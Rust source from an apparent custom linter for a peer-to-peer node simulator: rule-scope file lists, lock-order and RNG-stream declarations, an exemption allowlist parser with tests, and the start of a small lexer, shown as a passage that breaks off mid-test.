    "crates/wire/src/drain.rs",
    // node message handlers and the state they drive
    "crates/node/src/node.rs",
    "crates/node/src/node/recv.rs",
    "crates/node/src/peer.rs",
    "crates/node/src/chain.rs",
    "crates/node/src/mempool.rs",
    "crates/node/src/banman.rs",
    "crates/node/src/addrman.rs",
    "crates/node/src/banscore/tracker.rs",
    "crates/node/src/banscore/reputation.rs",
];

/// The steady-state receive path: files where a `to_vec()` /
/// `copy_from_slice` / `Vec::new` would silently reintroduce the per-frame
/// copies the zero-copy refactor removed (`hot-path-alloc` rule scope).
pub const RECV_PATH_FILES: &[&str] = &[
    "crates/node/src/node/recv.rs",
    "crates/node/src/peer.rs",
    "crates/wire/src/drain.rs",
];

/// Wire parsing files where `as u8`/`as u16`/`as u32` narrowing must be
/// justified (the crypto kernels are excluded: byte extraction is their
/// business).
pub const WIRE_PARSE_FILES: &[&str] = &[
    "crates/wire/src/encode.rs",
    "crates/wire/src/message.rs",
    "crates/wire/src/types.rs",
    "crates/wire/src/compact.rs",
    "crates/wire/src/tx.rs",
    "crates/wire/src/block.rs",
    "crates/wire/src/bloom.rs",
];

/// Whether `rel` (workspace-relative, `/`-separated) is inside a
/// sim-deterministic crate.
pub fn in_sim_deterministic(rel: &str) -> bool {
    SIM_DETERMINISTIC_CRATES
        .iter()
        .any(|c| rel.strip_prefix(c).is_some_and(|r| r.starts_with('/')))
}

/// Whether `rel` is in the panic-safety scope.
pub fn is_peer_input(rel: &str) -> bool {
    PEER_INPUT_FILES.contains(&rel)
}

/// Whether `rel` is in the narrowing-cast scope.
pub fn is_wire_parse(rel: &str) -> bool {
    WIRE_PARSE_FILES.contains(&rel)
}

/// Whether `rel` is in the hot-path-alloc scope.
pub fn is_recv_path(rel: &str) -> bool {
    RECV_PATH_FILES.contains(&rel)
}

/// One entry of the allowlist file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AllowEntry {
    /// Rule name.
    pub rule: String,
    /// Path prefix the exemption covers.
    pub path: String,
    /// Mandatory justification.
    pub reason: String,
}

/// The parsed allowlist file (`crates/lint/lint-allow.txt`).
#[derive(Clone, Debug, Default)]
pub struct Allowlist {
    entries: Vec<AllowEntry>,
}

impl Allowlist {
    /// Parses allowlist text. Malformed lines become findings against
    /// `file` (the allowlist path) rather than silent exemptions.
    pub fn parse(file: &str, text: &str) -> (Allowlist, Vec<Finding>) {
        let mut entries = Vec::new();
        let mut findings = Vec::new();
        for (idx, raw) in text.lines().enumerate() {
            let line = raw.trim();
            let lineno = idx as u32 + 1;
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let Some((head, reason)) = line.split_once("--") else {
                findings.push(Finding::new(
                    file,
                    lineno,
                    "allowlist",
                    "missing `-- <reason>`: every exemption needs a justification",
                ));
                continue;
            };
            let mut parts = head.split_whitespace();
            let (Some(rule), Some(path), None) = (parts.next(), parts.next(), parts.next())
            else {
                findings.push(Finding::new(
                    file,
                    lineno,
                    "allowlist",
                    "expected `<rule> <path-prefix> -- <reason>`",
                ));
                continue;
            };
            let reason = reason.trim();
            if reason.is_empty() {
                findings.push(Finding::new(
                    file,
                    lineno,
                    "allowlist",
                    "empty reason: every exemption needs a justification",
                ));
                continue;
            }
            entries.push(AllowEntry {
                rule: rule.to_owned(),
                path: path.to_owned(),
                reason: reason.to_owned(),
            });
        }
        (Allowlist { entries }, findings)
    }

    /// Loads the allowlist from `root`, tolerating a missing file.
    pub fn load(root: &Path) -> (Allowlist, Vec<Finding>) {
        let path = root.join("crates/lint/lint-allow.txt");
        match std::fs::read_to_string(&path) {
            Ok(text) => Allowlist::parse("crates/lint/lint-allow.txt", &text),
            Err(_) => (Allowlist::default(), Vec::new()),
        }
    }

    /// Whether `rule` is exempted for `rel` by a path-prefix entry.
    pub fn allows(&self, rule: &str, rel: &str) -> bool {
        self.entries
            .iter()
            .any(|e| e.rule == rule && rel.starts_with(&e.path))
    }

    /// All entries (diagnostics).
    pub fn entries(&self) -> &[AllowEntry] {
        &self.entries
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scope_membership() {
        assert!(in_sim_deterministic("crates/wire/src/message.rs"));
        assert!(in_sim_deterministic("crates/node/src/banscore/tracker.rs"));
        assert!(!in_sim_deterministic("crates/detect/src/latency.rs"));
        assert!(!in_sim_deterministic("crates/wireless/src/x.rs"));
        assert!(is_peer_input("crates/wire/src/encode.rs"));
        assert!(is_peer_input("crates/node/src/banscore/reputation.rs"));
        assert!(!is_peer_input("crates/wire/src/crypto/sha256.rs"));
        assert!(is_wire_parse("crates/wire/src/bloom.rs"));
        assert!(!is_wire_parse("crates/wire/src/crypto/murmur3.rs"));
        assert!(is_recv_path("crates/node/src/node/recv.rs"));
        assert!(is_recv_path("crates/wire/src/drain.rs"));
        assert!(!is_recv_path("crates/node/src/node.rs"));
        assert!(is_peer_input("crates/node/src/node/recv.rs"));
        assert!(is_peer_input("crates/wire/src/drain.rs"));
    }

    #[test]
    fn allowlist_parses_and_matches() {
        let (al, bad) = Allowlist::parse(
            "lint-allow.txt",
            "# comment\n\nwallclock crates/detect/src/latency.rs -- wall-clock timing by design\n",
        );
        assert!(bad.is_empty());
        assert!(al.allows("wallclock", "crates/detect/src/latency.rs"));
        assert!(!al.allows("wallclock", "crates/detect/src/engine.rs"));
        assert!(!al.allows("unordered-map", "crates/detect/src/latency.rs"));
    }

    #[test]
    fn allowlist_rejects_missing_reason() {
        let (al, bad) = Allowlist::parse("f", "wallclock crates/x/src/a.rs\n");
        assert!(al.entries().is_empty());
        assert_eq!(bad.len(), 1);
        assert_eq!(bad[0].rule, "allowlist");
    }

    #[test]
    fn allowlist_rejects_empty_reason_and_bad_shape() {
        let (_, bad) = Allowlist::parse("f", "wallclock crates/x/src/a.rs -- \nonlyrule -- r\n");
        assert_eq!(bad.len(), 2);
    }
}
