//! Which rules run where, plus the file-level allowlist.
//!
//! Scoping is deliberately explicit path lists, not heuristics: the
//! determinism contract covers the crates whose output must be bit-identical
//! across `--jobs` counts, and the panic-safety contract covers exactly the
//! code that touches peer-controlled bytes. Adding a file to a contract is a
//! reviewed one-line change here.

use crate::findings::Finding;
use std::path::Path;

/// Crates whose simulation output must be bit-identical across runs and job
/// counts (PR 3/4 determinism contract, extended to the detector in PR 10 —
/// its streaming verdicts are digest-gated in CI). `unordered-map` runs only
/// here; `wallclock` leaks out of allowlisted measurement files are caught by
/// the transitive pass.
pub const SIM_DETERMINISTIC_CRATES: &[&str] = &[
    "crates/wire",
    "crates/netsim",
    "crates/node",
    "crates/par",
    "crates/core",
    "crates/detect",
];

/// Files that parse or act on peer-controlled bytes: the `panic-path` rule
/// scope. A panic anywhere in here would let a malformed payload crash the
/// node *before* misbehavior tracking — inverting the paper's BM-DoS result.
pub const PEER_INPUT_FILES: &[&str] = &[
    // wire decode path
    "crates/wire/src/encode.rs",
    "crates/wire/src/message.rs",
    "crates/wire/src/types.rs",
    "crates/wire/src/compact.rs",
    "crates/wire/src/tx.rs",
    "crates/wire/src/block.rs",
    "crates/wire/src/bloom.rs",
    "crates/wire/src/drain.rs",
    // node message handlers and the state they drive
    "crates/node/src/node.rs",
    "crates/node/src/node/recv.rs",
    "crates/node/src/peer.rs",
    "crates/node/src/chain.rs",
    "crates/node/src/mempool.rs",
    "crates/node/src/banman.rs",
    "crates/node/src/addrman.rs",
    "crates/node/src/banscore/tracker.rs",
    "crates/node/src/banscore/reputation.rs",
    // detector ingest: both consume peer-derived message streams
    "crates/detect/src/streaming.rs",
    "crates/detect/src/serve.rs",
];

/// The steady-state receive path: files where a `to_vec()` /
/// `copy_from_slice` / `Vec::new` would silently reintroduce the per-frame
/// copies the zero-copy refactor removed (`hot-path-alloc` rule scope).
pub const RECV_PATH_FILES: &[&str] = &[
    "crates/node/src/node/recv.rs",
    "crates/node/src/peer.rs",
    "crates/wire/src/drain.rs",
];

/// Wire parsing files where `as u8`/`as u16`/`as u32` narrowing must be
/// justified (the crypto kernels are excluded: byte extraction is their
/// business).
pub const WIRE_PARSE_FILES: &[&str] = &[
    "crates/wire/src/encode.rs",
    "crates/wire/src/message.rs",
    "crates/wire/src/types.rs",
    "crates/wire/src/compact.rs",
    "crates/wire/src/tx.rs",
    "crates/wire/src/block.rs",
    "crates/wire/src/bloom.rs",
];

/// Whether `rel` (workspace-relative, `/`-separated) is inside a
/// sim-deterministic crate.
pub fn in_sim_deterministic(rel: &str) -> bool {
    SIM_DETERMINISTIC_CRATES
        .iter()
        .any(|c| rel.strip_prefix(c).is_some_and(|r| r.starts_with('/')))
}

/// Whether `rel` is in the panic-safety scope.
pub fn is_peer_input(rel: &str) -> bool {
    PEER_INPUT_FILES.contains(&rel)
}

/// Whether `rel` is in the narrowing-cast scope.
pub fn is_wire_parse(rel: &str) -> bool {
    WIRE_PARSE_FILES.contains(&rel)
}

/// Whether `rel` is in the hot-path-alloc scope.
pub fn is_recv_path(rel: &str) -> bool {
    RECV_PATH_FILES.contains(&rel)
}

/// Function names the hot-path-alloc transitive pass does not descend
/// *through*: these are the designed exits from the zero-copy steady state
/// (full-message handling and decode build owned values by contract), so
/// allocations behind them are not receive-path regressions.
pub const HOT_PATH_BOUNDARIES: &[&str] = &[
    "handle_message", // per-message dispatch: handlers own their allocations
    "decode",         // Message::decode builds owned payload structures
    "disconnect",     // teardown path, not steady-state
    "handshake",      // once-per-connection setup, not per-frame
];

/// Directory prefix of the ban-score bookkeeping: the `score-arith` scope.
pub const SCORE_ARITH_SCOPE: &str = "crates/node/src/banscore/";

/// Field names holding ban scores, credits, token-bucket levels or sim-time
/// deadlines: bare `+`/`-`/`*` assignments to these must be `saturating_*`/
/// `checked_*` (or carry a justified marker, e.g. for clamped floats).
pub const SCORE_FIELDS: &[&str] =
    &["score", "strikes", "credit", "tokens", "gray_allowance", "total"];

/// Whether `name` is a score/sim-time field for the `score-arith` rule.
/// `*until` catches the `graylist_until`/`banned_until` deadline family.
pub fn is_score_field(name: &str) -> bool {
    SCORE_FIELDS.contains(&name) || name.ends_with("until")
}

/// A declared RNG stream root: inside `func` (or the whole file when `func`
/// is `"*"`), draws may only come from receivers in `allowed` — the salted
/// stream this root owns. Any function *reachable from* a fn-level root
/// inherits the restriction (the fault path must never consume host-stream
/// randomness, or replay breaks bit-for-bit).
pub struct RngRoot {
    /// Workspace-relative file.
    pub file: &'static str,
    /// Function name, or `"*"` for every fn in the file.
    pub func: &'static str,
    /// Stream name (display only).
    pub stream: &'static str,
    /// Allowed draw receivers inside the root's scope.
    pub allowed: &'static [&'static str],
}

/// The declared RNG stream roots.
pub const RNG_ROOTS: &[RngRoot] = &[
    RngRoot {
        file: "crates/netsim/src/sim.rs",
        func: "send_packet",
        stream: "fault",
        allowed: &["fault_rng"],
    },
    RngRoot {
        file: "crates/netsim/src/shard.rs",
        func: "send_packet",
        stream: "fault",
        allowed: &["fault_rng"],
    },
    RngRoot {
        file: "crates/netsim/src/prop.rs",
        func: "*",
        stream: "proptest",
        allowed: &["rng"],
    },
    // The SimRng implementation itself is stream-neutral: its methods draw
    // on whatever stream instance the caller invoked them on, so `self`
    // draws inside rng.rs belong to the caller's stream by construction.
    RngRoot {
        file: "crates/netsim/src/rng.rs",
        func: "*",
        stream: "rng-impl",
        allowed: &["self"],
    },
];

/// Draw methods of the seeded RNGs (`SimRng` and shims with its surface).
pub const RNG_DRAW_METHODS: &[&str] =
    &["next_u64", "gen_range", "gen_f64", "gen_bool", "exponential"];

/// A declared Mutex identity: `.lock()` receivers in `file` matching one of
/// `recvs` acquire the named lock. Receivers in lock-scope files that match
/// no declaration are findings — every lock must have a rank.
pub struct LockDecl {
    /// Workspace-relative file.
    pub file: &'static str,
    /// Receiver idents (as rendered by `parse::receiver_of`).
    pub recvs: &'static [&'static str],
    /// Lock name; must appear in [`LOCK_ORDER`].
    pub lock: &'static str,
}

/// The declared lock identities.
pub const LOCK_DECLS: &[LockDecl] = &[
    LockDecl {
        file: "crates/netsim/src/shard.rs",
        recvs: &["regions", "reg", "r"],
        lock: "netsim.region",
    },
    LockDecl {
        file: "crates/netsim/src/sim.rs",
        recvs: &["self", "0"],
        lock: "netsim.tap",
    },
    LockDecl {
        file: "crates/par/src/lib.rs",
        recvs: &["deques"],
        lock: "par.deque",
    },
    LockDecl {
        file: "crates/par/src/lib.rs",
        recvs: &["pending"],
        lock: "par.pending",
    },
    LockDecl {
        file: "crates/par/src/lib.rs",
        recvs: &["slots"],
        lock: "par.slot",
    },
    LockDecl {
        file: "crates/par/src/lib.rs",
        recvs: &["first_panic"],
        lock: "par.panic-slot",
    },
];

/// The declared total lock order: a lock may only be acquired while holding
/// locks that appear strictly *earlier* in this list. Region locks come
/// first (the shard runtime holds one across a whole event window), the tap
/// inside it, and the pool's bookkeeping locks are leaves acquired alone.
pub const LOCK_ORDER: &[&str] = &[
    "netsim.region",
    "netsim.tap",
    "par.deque",
    "par.pending",
    "par.slot",
    "par.panic-slot",
];

/// Files the `lock-order` rule scans.
pub const LOCK_SCOPE_FILES: &[&str] = &[
    "crates/par/src/lib.rs",
    "crates/par/src/phase.rs",
    "crates/detect/src/serve.rs",
    "crates/netsim/src/sim.rs",
    "crates/netsim/src/shard.rs",
];

/// One entry of the allowlist file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AllowEntry {
    /// Rule name.
    pub rule: String,
    /// Path prefix the exemption covers.
    pub path: String,
    /// Mandatory justification.
    pub reason: String,
    /// 1-based line in the allowlist file (stale-exemption audit anchor).
    pub line: u32,
}

/// The parsed allowlist file (`crates/lint/lint-allow.txt`).
#[derive(Clone, Debug, Default)]
pub struct Allowlist {
    entries: Vec<AllowEntry>,
}

impl Allowlist {
    /// Parses allowlist text. Malformed lines become findings against
    /// `file` (the allowlist path) rather than silent exemptions.
    pub fn parse(file: &str, text: &str) -> (Allowlist, Vec<Finding>) {
        let mut entries = Vec::new();
        let mut findings = Vec::new();
        for (idx, raw) in text.lines().enumerate() {
            let line = raw.trim();
            let lineno = idx as u32 + 1;
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let Some((head, reason)) = line.split_once("--") else {
                findings.push(Finding::new(
                    file,
                    lineno,
                    "allowlist",
                    "missing `-- <reason>`: every exemption needs a justification",
                ));
                continue;
            };
            let mut parts = head.split_whitespace();
            let (Some(rule), Some(path), None) = (parts.next(), parts.next(), parts.next())
            else {
                findings.push(Finding::new(
                    file,
                    lineno,
                    "allowlist",
                    "expected `<rule> <path-prefix> -- <reason>`",
                ));
                continue;
            };
            let reason = reason.trim();
            if reason.is_empty() {
                findings.push(Finding::new(
                    file,
                    lineno,
                    "allowlist",
                    "empty reason: every exemption needs a justification",
                ));
                continue;
            }
            entries.push(AllowEntry {
                rule: rule.to_owned(),
                path: path.to_owned(),
                reason: reason.to_owned(),
                line: lineno,
            });
        }
        (Allowlist { entries }, findings)
    }

    /// Loads the allowlist from `root`, tolerating a missing file.
    pub fn load(root: &Path) -> (Allowlist, Vec<Finding>) {
        let path = root.join("crates/lint/lint-allow.txt");
        match std::fs::read_to_string(&path) {
            Ok(text) => Allowlist::parse("crates/lint/lint-allow.txt", &text),
            Err(_) => (Allowlist::default(), Vec::new()),
        }
    }

    /// Whether `rule` is exempted for `rel` by a path-prefix entry.
    pub fn allows(&self, rule: &str, rel: &str) -> bool {
        self.entries
            .iter()
            .any(|e| e.rule == rule && rel.starts_with(&e.path))
    }

    /// All entries (diagnostics).
    pub fn entries(&self) -> &[AllowEntry] {
        &self.entries
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scope_membership() {
        assert!(in_sim_deterministic("crates/wire/src/message.rs"));
        assert!(in_sim_deterministic("crates/node/src/banscore/tracker.rs"));
        assert!(in_sim_deterministic("crates/detect/src/latency.rs"));
        assert!(!in_sim_deterministic("crates/wireless/src/x.rs"));
        assert!(is_peer_input("crates/wire/src/encode.rs"));
        assert!(is_peer_input("crates/node/src/banscore/reputation.rs"));
        assert!(!is_peer_input("crates/wire/src/crypto/sha256.rs"));
        assert!(is_wire_parse("crates/wire/src/bloom.rs"));
        assert!(!is_wire_parse("crates/wire/src/crypto/murmur3.rs"));
        assert!(is_recv_path("crates/node/src/node/recv.rs"));
        assert!(is_recv_path("crates/wire/src/drain.rs"));
        assert!(!is_recv_path("crates/node/src/node.rs"));
        assert!(is_peer_input("crates/node/src/node/recv.rs"));
        assert!(is_peer_input("crates/wire/src/drain.rs"));
    }

    #[test]
    fn allowlist_parses_and_matches() {
        let (al, bad) = Allowlist::parse(
            "lint-allow.txt",
            "# comment\n\nwallclock crates/detect/src/latency.rs -- wall-clock timing by design\n",
        );
        assert!(bad.is_empty());
        assert!(al.allows("wallclock", "crates/detect/src/latency.rs"));
        assert!(!al.allows("wallclock", "crates/detect/src/engine.rs"));
        assert!(!al.allows("unordered-map", "crates/detect/src/latency.rs"));
    }

    #[test]
    fn allowlist_rejects_missing_reason() {
        let (al, bad) = Allowlist::parse("f", "wallclock crates/x/src/a.rs\n");
        assert!(al.entries().is_empty());
        assert_eq!(bad.len(), 1);
        assert_eq!(bad[0].rule, "allowlist");
    }

    #[test]
    fn allowlist_rejects_empty_reason_and_bad_shape() {
        let (_, bad) = Allowlist::parse("f", "wallclock crates/x/src/a.rs -- \nonlyrule -- r\n");
        assert_eq!(bad.len(), 2);
    }
}
