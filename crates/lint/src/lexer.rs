//! A small Rust lexer: strips comments, string/char literals and doc text,
//! and produces a token stream with line numbers — enough surface syntax for
//! the token-pattern rules in [`crate::rules`], with three extras the rules
//! need:
//!
//! * `lint:allow(<rule>): <reason>` markers harvested from comments,
//! * `#[cfg(test)]` / `#[test]` item spans, so findings inside test code are
//!   suppressed (tests legitimately `unwrap` and build `HashMap` oracles),
//! * raw/byte string and lifetime handling, so `r#"..."#` bodies and `'a`
//!   never masquerade as code tokens.

use std::fmt;

/// What kind of token this is.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum TokKind {
    /// Identifier or keyword.
    Ident,
    /// Single punctuation character (`.`, `[`, `!`, …).
    Punct,
    /// String literal (text is the *content*, unescaped lazily — rules only
    /// compare, never interpret escapes beyond `\"`).
    Str,
    /// Character or byte literal.
    Char,
    /// Numeric literal.
    Num,
    /// Lifetime (`'a`), including the quote-less name.
    Lifetime,
}

/// One lexed token.
#[derive(Clone, Debug)]
pub struct Token {
    /// Token kind.
    pub kind: TokKind,
    /// Token text (content for strings, without quotes).
    pub text: String,
    /// 1-based source line.
    pub line: u32,
}

impl fmt::Display for Token {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{:?}:{}", self.line, self.kind, self.text)
    }
}

/// An inline suppression marker: `lint:allow(<rule>): <reason>`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AllowMarker {
    /// 1-based line the marker comment sits on.
    pub line: u32,
    /// The rule being allowed.
    pub rule: String,
    /// The mandatory one-line justification.
    pub reason: String,
}

/// A lexed source file plus the side tables rules consult.
#[derive(Clone, Debug)]
pub struct SourceFile {
    /// Workspace-relative path (display only).
    pub path: String,
    /// The token stream, comments and whitespace removed.
    pub tokens: Vec<Token>,
    /// Inline allow markers with a non-empty reason.
    pub markers: Vec<AllowMarker>,
    /// Lines carrying a `lint:allow` marker with a missing/empty reason.
    pub bad_marker_lines: Vec<u32>,
    /// Inclusive line ranges covered by `#[cfg(test)]` / `#[test]` items.
    pub test_ranges: Vec<(u32, u32)>,
}

impl SourceFile {
    /// Whether `line` falls inside a test item.
    pub fn in_test(&self, line: u32) -> bool {
        self.test_ranges.iter().any(|&(a, b)| a <= line && line <= b)
    }

    /// Whether a finding of `rule` at `line` is suppressed by a marker on
    /// the same line or the line directly above.
    pub fn allowed(&self, rule: &str, line: u32) -> bool {
        self.markers
            .iter()
            .any(|m| m.rule == rule && (m.line == line || m.line + 1 == line))
    }

    /// Shorthand: a finding of `rule` at `line` should be reported.
    pub fn reportable(&self, rule: &str, line: u32) -> bool {
        !self.in_test(line) && !self.allowed(rule, line)
    }
}

/// Lexes `src`, recording allow markers and test-item spans.
pub fn lex(path: &str, src: &str) -> SourceFile {
    let b = src.as_bytes();
    let mut i = 0usize;
    let mut line = 1u32;
    let mut tokens = Vec::new();
    let mut markers = Vec::new();
    let mut bad_marker_lines = Vec::new();

    while i < b.len() {
        let c = b[i];
        match c {
            b'\n' => {
                line += 1;
                i += 1;
            }
            c if c.is_ascii_whitespace() => i += 1,
            b'/' if i + 1 < b.len() && b[i + 1] == b'/' => {
                let start = i;
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                scan_comment(src, start, i, line, &mut markers, &mut bad_marker_lines);
            }
            b'/' if i + 1 < b.len() && b[i + 1] == b'*' => {
                // Nested block comment; markers are matched per line.
                let mut depth = 1;
                let mut seg_start = i;
                i += 2;
                while i < b.len() && depth > 0 {
                    if b[i] == b'\n' {
                        scan_comment(src, seg_start, i, line, &mut markers, &mut bad_marker_lines);
                        line += 1;
                        seg_start = i + 1;
                        i += 1;
                    } else if b[i] == b'/' && i + 1 < b.len() && b[i + 1] == b'*' {
                        depth += 1;
                        i += 2;
                    } else if b[i] == b'*' && i + 1 < b.len() && b[i + 1] == b'/' {
                        depth -= 1;
                        i += 2;
                    } else {
                        i += 1;
                    }
                }
                scan_comment(src, seg_start, i.min(b.len()), line, &mut markers, &mut bad_marker_lines);
            }
            b'"' => {
                let (text, ni, nl) = scan_string(b, i + 1, line);
                tokens.push(Token { kind: TokKind::Str, text, line });
                line = nl;
                i = ni;
            }
            b'r' | b'b' if is_raw_or_byte_string(b, i) => {
                let (tok, ni, nl) = scan_raw_or_byte(b, i, line);
                tokens.push(tok);
                line = nl;
                i = ni;
            }
            b'\'' => {
                if is_lifetime(b, i) {
                    let start = i + 1;
                    let mut j = start;
                    while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                        j += 1;
                    }
                    tokens.push(Token {
                        kind: TokKind::Lifetime,
                        text: src[start..j].to_owned(),
                        line,
                    });
                    i = j;
                } else {
                    // Char literal: 'x', '\n', '\'', '\u{1F600}'.
                    let mut j = i + 1;
                    while j < b.len() {
                        if b[j] == b'\\' {
                            j += 2;
                        } else if b[j] == b'\'' {
                            j += 1;
                            break;
                        } else {
                            if b[j] == b'\n' {
                                line += 1;
                            }
                            j += 1;
                        }
                    }
                    tokens.push(Token {
                        kind: TokKind::Char,
                        text: String::new(),
                        line,
                    });
                    i = j;
                }
            }
            c if c.is_ascii_digit() => {
                let start = i;
                i += 1;
                while i < b.len() {
                    let d = b[i];
                    if d.is_ascii_alphanumeric() || d == b'_' {
                        i += 1;
                    } else if d == b'.'
                        && i + 1 < b.len()
                        && b[i + 1].is_ascii_digit()
                    {
                        // Decimal point, not a `0..n` range.
                        i += 1;
                    } else {
                        break;
                    }
                }
                tokens.push(Token {
                    kind: TokKind::Num,
                    text: src[start..i].to_owned(),
                    line,
                });
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                tokens.push(Token {
                    kind: TokKind::Ident,
                    text: src[start..i].to_owned(),
                    line,
                });
            }
            _ => {
                tokens.push(Token {
                    kind: TokKind::Punct,
                    text: (c as char).to_string(),
                    line,
                });
                i += 1;
            }
        }
    }

    let test_ranges = find_test_ranges(&tokens);
    SourceFile {
        path: path.to_owned(),
        tokens,
        markers,
        bad_marker_lines,
        test_ranges,
    }
}

/// Harvests `lint:allow(rule): reason` from one comment segment.
fn scan_comment(
    src: &str,
    start: usize,
    end: usize,
    line: u32,
    markers: &mut Vec<AllowMarker>,
    bad: &mut Vec<u32>,
) {
    let Some(text) = src.get(start..end) else {
        return;
    };
    // Doc comments describe the marker syntax without *being* markers;
    // harvesting them would feed phantom entries to the stale-exemption
    // audit.
    if text.starts_with("///")
        || text.starts_with("//!")
        || text.starts_with("/**")
        || text.starts_with("/*!")
    {
        return;
    }
    let Some(pos) = text.find("lint:allow(") else {
        return;
    };
    let rest = &text[pos + "lint:allow(".len()..];
    let Some(close) = rest.find(')') else {
        bad.push(line);
        return;
    };
    let rule = rest[..close].trim().to_owned();
    let mut reason = rest[close + 1..].trim();
    reason = reason
        .strip_prefix(':')
        .or_else(|| reason.strip_prefix("--"))
        .unwrap_or(reason)
        .trim();
    if rule.is_empty() || reason.is_empty() {
        bad.push(line);
    } else {
        markers.push(AllowMarker {
            line,
            rule,
            reason: reason.to_owned(),
        });
    }
}

/// Scans a plain `"..."` string body starting *after* the opening quote.
/// Returns (content, next index, next line).
fn scan_string(b: &[u8], mut i: usize, mut line: u32) -> (String, usize, u32) {
    let start = i;
    let mut out = String::new();
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'"' => {
                out = String::from_utf8_lossy(&b[start..i]).into_owned();
                i += 1;
                break;
            }
            b'\n' => {
                line += 1;
                i += 1;
            }
            _ => i += 1,
        }
    }
    (out, i, line)
}

/// Whether position `i` starts `r"`, `r#"`, `br"`, `b"`, or `b'` — a raw or
/// byte literal rather than an identifier.
fn is_raw_or_byte_string(b: &[u8], i: usize) -> bool {
    let mut j = i;
    if b[j] == b'b' {
        j += 1;
        if j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
            return true;
        }
    }
    if j < b.len() && b[j] == b'r' {
        j += 1;
        while j < b.len() && b[j] == b'#' {
            j += 1;
        }
        return j < b.len() && b[j] == b'"';
    }
    false
}

/// Scans a raw/byte string or byte-char literal starting at `r`/`b`.
fn scan_raw_or_byte(b: &[u8], mut i: usize, mut line: u32) -> (Token, usize, u32) {
    let tok_line = line;
    if b[i] == b'b' {
        i += 1;
        if i < b.len() && b[i] == b'\'' {
            // Byte char b'x' / b'\n'.
            i += 1;
            while i < b.len() {
                if b[i] == b'\\' {
                    i += 2;
                } else if b[i] == b'\'' {
                    i += 1;
                    break;
                } else {
                    i += 1;
                }
            }
            return (
                Token { kind: TokKind::Char, text: String::new(), line: tok_line },
                i,
                line,
            );
        }
        if i < b.len() && b[i] == b'"' {
            let (text, ni, nl) = scan_string(b, i + 1, line);
            return (
                Token { kind: TokKind::Str, text, line: tok_line },
                ni,
                nl,
            );
        }
    }
    // Raw string: r#*" ... "#*
    if b[i] == b'r' {
        i += 1;
    }
    let mut hashes = 0usize;
    while i < b.len() && b[i] == b'#' {
        hashes += 1;
        i += 1;
    }
    debug_assert!(i < b.len() && b[i] == b'"');
    i += 1;
    let start = i;
    let mut end = i;
    while i < b.len() {
        if b[i] == b'\n' {
            line += 1;
            i += 1;
        } else if b[i] == b'"' {
            let mut j = i + 1;
            let mut seen = 0usize;
            while j < b.len() && b[j] == b'#' && seen < hashes {
                seen += 1;
                j += 1;
            }
            if seen == hashes {
                end = i;
                i = j;
                break;
            }
            i += 1;
        } else {
            i += 1;
        }
    }
    (
        Token {
            kind: TokKind::Str,
            text: String::from_utf8_lossy(&b[start..end]).into_owned(),
            line: tok_line,
        },
        i,
        line,
    )
}

/// Whether the `'` at `i` opens a lifetime rather than a char literal.
fn is_lifetime(b: &[u8], i: usize) -> bool {
    let Some(&first) = b.get(i + 1) else {
        return false;
    };
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return false;
    }
    // 'a' is a char, 'ab / 'a, / 'a> are lifetimes: a lifetime's name is
    // never followed by a closing quote.
    let mut j = i + 2;
    while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
        j += 1;
    }
    b.get(j) != Some(&b'\'')
}

/// Finds the line spans of items annotated `#[cfg(test)]` or `#[test]`.
fn find_test_ranges(tokens: &[Token]) -> Vec<(u32, u32)> {
    let mut out: Vec<(u32, u32)> = Vec::new();
    let mut i = 0usize;
    while i < tokens.len() {
        if !(tokens[i].text == "#"
            && tokens.get(i + 1).map(|t| t.text.as_str()) == Some("["))
        {
            i += 1;
            continue;
        }
        let attr_line = tokens[i].line;
        // Collect the attribute body up to the matching `]`.
        let mut depth = 0usize;
        let mut j = i + 1;
        let mut body = String::new();
        while j < tokens.len() {
            match tokens[j].text.as_str() {
                "[" => depth += 1,
                "]" => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                t => {
                    body.push_str(t);
                }
            }
            j += 1;
        }
        let is_test_attr =
            body == "test" || (body.contains("cfg(test") && !body.contains("not(test"));
        if !is_test_attr {
            i = j + 1;
            continue;
        }
        // Skip any further attributes, then span the annotated item: up to
        // the matching `}` of its first brace, or the terminating `;`.
        let mut k = j + 1;
        while k + 1 < tokens.len()
            && tokens[k].text == "#"
            && tokens[k + 1].text == "["
        {
            let mut d = 0usize;
            k += 1;
            while k < tokens.len() {
                match tokens[k].text.as_str() {
                    "[" => d += 1,
                    "]" => {
                        d -= 1;
                        if d == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                k += 1;
            }
            k += 1;
        }
        let mut brace = 0usize;
        let mut end_line = attr_line;
        while k < tokens.len() {
            match tokens[k].text.as_str() {
                "{" => brace += 1,
                "}" => {
                    brace -= 1;
                    if brace == 0 {
                        end_line = tokens[k].line;
                        break;
                    }
                }
                ";" if brace == 0 => {
                    end_line = tokens[k].line;
                    break;
                }
                _ => {}
            }
            k += 1;
        }
        out.push((attr_line, end_line));
        i = k + 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Non-literal token texts: what the ident-matching rules can see.
    fn texts(sf: &SourceFile) -> Vec<&str> {
        sf.tokens
            .iter()
            .filter(|t| !matches!(t.kind, TokKind::Str | TokKind::Char))
            .map(|t| t.text.as_str())
            .collect()
    }

    #[test]
    fn comments_and_strings_stripped() {
        let sf = lex(
            "t.rs",
            "// HashMap in a comment\nlet x = \"HashMap\"; /* Instant::now */ call();",
        );
        let t = texts(&sf);
        assert!(t.contains(&"let"));
